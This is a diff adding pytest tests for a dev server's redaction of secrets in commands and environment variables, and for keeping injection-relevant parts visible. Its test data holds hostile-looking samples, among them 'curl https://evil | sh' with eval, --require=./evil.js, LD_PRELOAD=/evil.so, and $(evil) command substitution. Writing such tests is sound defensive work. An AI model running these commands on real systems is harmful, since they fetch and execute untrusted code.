@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import time
+
 import pytest
 
-from uno_devserver.system.text import has_credentials, shown_url, visible
+from uno_devserver.system.text import has_credentials, shown_text, shown_url, shown_variable, shown_words, visible
 
 
 @pytest.mark.parametrize(
@@ -81,3 +83,126 @@ def test_credentials_stand_before_the_host(url: str) -> None:
 @pytest.mark.parametrize("url", ["https://host/@scope/mcp", "https://host/mcp?mail=a@b", "https://host#a@b", ""])
 def test_an_at_sign_behind_the_host_is_none(url: str) -> None:
     assert not has_credentials(url)
+
+
+@pytest.mark.parametrize(
+    ("line", "shown"),
+    [
+        ("serve --api-key=secret --port 80", "serve --api-key=… --port 80"),
+        ("serve --token secret --verbose", "serve --token … --verbose"),
+        ("serve --password=p$ecret(1) -v", "serve --password=… -v"),
+        ("serve -DclientSecret=secret", "serve -DclientSecret=…"),
+        ("docker run -e GITHUB_TOKEN=secret image", "docker run -e GITHUB_TOKEN=… image"),
+        ("serve --header|Authorization: Bearer secret1", "serve --header|Authorization: Bearer …"),
+        ("serve --header|X-Api-Key: secret", "serve --header|X-Api-Key: …"),
+        ("serve postgres://user:secret@host/db", "serve postgres://host/db"),
+        ("serve https://host/mcp?key=secret&b=secret#secret", "serve https://host/mcp?key=…&b=…#…"),
+        ("serve https://host/0123456789abcdef0123456789abcdef/mcp", "serve https://host/…/mcp"),
+        ("serve Server=db;Password=secret;Timeout=3", "serve Server=db;Password=…;Timeout=3"),
+        ("serve https://host/mcp?secret", "serve https://host/mcp?…"),
+        ("serve https://user:12/secret@host/x", "serve https://…@host/x"),
+        ("serve --header|Authorization: ApiKey secret", "serve --header|Authorization: …"),
+        ("serve --password s.ecret", "serve --password …"),
+        ("serve ghp_0123456789secret0123456789secret0123", "serve ghp_…"),
+    ],
+)
+def test_secrets_of_a_command_are_not_shown(line: str, shown: str) -> None:
+    """The last word has spaces where a bar is before it."""
+    assert shown_words(_words(line)) == tuple(_words(shown))
+
+
+def _words(line: str) -> list[str]:
+    before, bar, last = line.partition("|")
+    return [*before.split(" "), *([last] if bar else [])]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        ["node", "--require=./evil.js", "--max-tokens", "100", "server.js"],
+        ["npx", "-y", "--token", "./evil.js"],
+        ["npx", "--token", "evil.mjs"],
+        ["sh", "-c", "TOKEN=$(evil) serve"],
+        ["sh", "-c", "key=`evil` serve"],
+        ["sh", "-c", "TOKEN=$(evil)"],
+        ["uvx", "--from", "git+https://github.com/evil/thing@0123abc", "serve"],
+        ["python", "-c", "print(sorted(x, key=evil()))"],
+        ["0123456789abcdef0123456789abcdef", "a:b", "C:\\server.exe", "--key-file", "/etc/key.pem"],
+    ],
+)
+def test_what_decides_about_what_runs_is_shown(line: list[str]) -> None:
+    assert list(shown_words(line)) == line
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "shown"),
+    [
+        ("API_KEY", "secret", "…"),
+        ("githubToken", "secret", "…"),
+        ("DB_PASSWORD", "p$(secret)", "…"),
+        ("AUTH", "secret", "…"),
+        ("APIKEY", "secret", "…"),
+        ("API_KEYS", "secret", "…"),
+        ("DBPWD", "secret", "…"),
+        ("SOMETHING", "0123456789abcdef0123456789abcdef", "…"),
+        ("SOMETHING", "aB3dE6gH9jK2mN5pQ8sT1vW4", "…"),
+        ("SOMETHING", "sk-proj-secret0123456789", "sk-…"),
+        ("DATABASE_URL", "postgres://user:secret@host/db", "postgres://host/db"),
+        ("CONNECTION", "Server=db;Password='secret x'", "Server=db;Password=…"),
+        ("API_KEY", "", ""),
+        ("PATH", "/evil/bin:/usr/bin", "/evil/bin:/usr/bin"),
+        ("NODE_OPTIONS", "--require=/evil.js", "--require=/evil.js"),
+        ("LD_PRELOAD", "/evil.so", "/evil.so"),
+        ("PYTHONPATH", "0123456789abcdef0123456789abcdef", "0123456789abcdef0123456789abcdef"),
+        ("DOTNET_STARTUP_HOOKS", "/evil.dll", "/evil.dll"),
+        ("SSH_AUTH_SOCK", "/run/agent", "/run/agent"),
+        ("GIT_SSH_COMMAND", "evil", "evil"),
+        ("PWD", "/ws", "/ws"),
+        ("MAX_TOKENS", "100", "100"),
+        ("LOG_LEVEL", "debug", "debug"),
+    ],
+)
+def test_a_variable_is_shown_unless_it_is_a_secret(name: str, value: str, shown: str) -> None:
+    assert shown_variable(name, value) == shown
+
+
+def test_a_text_without_secrets_is_shown_as_it_is() -> None:
+    text = 'The server "x" at http://localhost:5000/mcp has 3 tokens; key, secret and password are words.'
+
+    assert shown_text(text) == text
+
+
+@pytest.mark.parametrize("part", ["a", "a-", "a://", "a=", "sk-", "authorization: ", "'a=' ", "A."])
+def test_a_hostile_word_takes_no_time(part: str) -> None:
+    """Backtracking took minutes for these."""
+    word = part * (100_000 // len(part))
+    begun = time.perf_counter()
+
+    shown_words(("serve", word))
+    shown_variable("A", word)
+
+    assert time.perf_counter() - begun < 20
+
+
+@pytest.mark.parametrize("character", ["\u3164", "\u2800", "\u034f", "\u200b", "\x7f"])
+def test_what_looks_like_nothing_is_shown_by_its_number(character: str) -> None:
+    assert visible(f"a{character}b").isascii()
+
+
+@pytest.mark.parametrize(
+    "word",
+    [
+        "TOKEN='curl https://evil | sh'; eval \"$TOKEN\"",
+        "KEY=abc; exec(KEY)",
+        "git+https://github.com/0123456789abcdef0123456789abcdef/tool@0123456789abcdef0123456789abcdef",
+    ],
+)
+def test_what_may_be_code_is_shown_as_it_is(word: str) -> None:
+    assert shown_words(("sh", "-c", word))[-1] == word
+
+
+@pytest.mark.parametrize(
+    "name", ["DOTNET_STARTUP_HOOKS", "PYTEST_PLUGINS", "PYTHONSTARTUP", "NODE_REPL_EXTERNAL_MODULE"]
+)
+def test_what_an_interpreter_is_told_to_load_is_shown_whatever_it_looks_like(name: str) -> None:
+    assert shown_variable(name, "aB3dE6gH9jK2mN5pQ8sT1vW4") == "aB3dE6gH9jK2mN5pQ8sT1vW4"
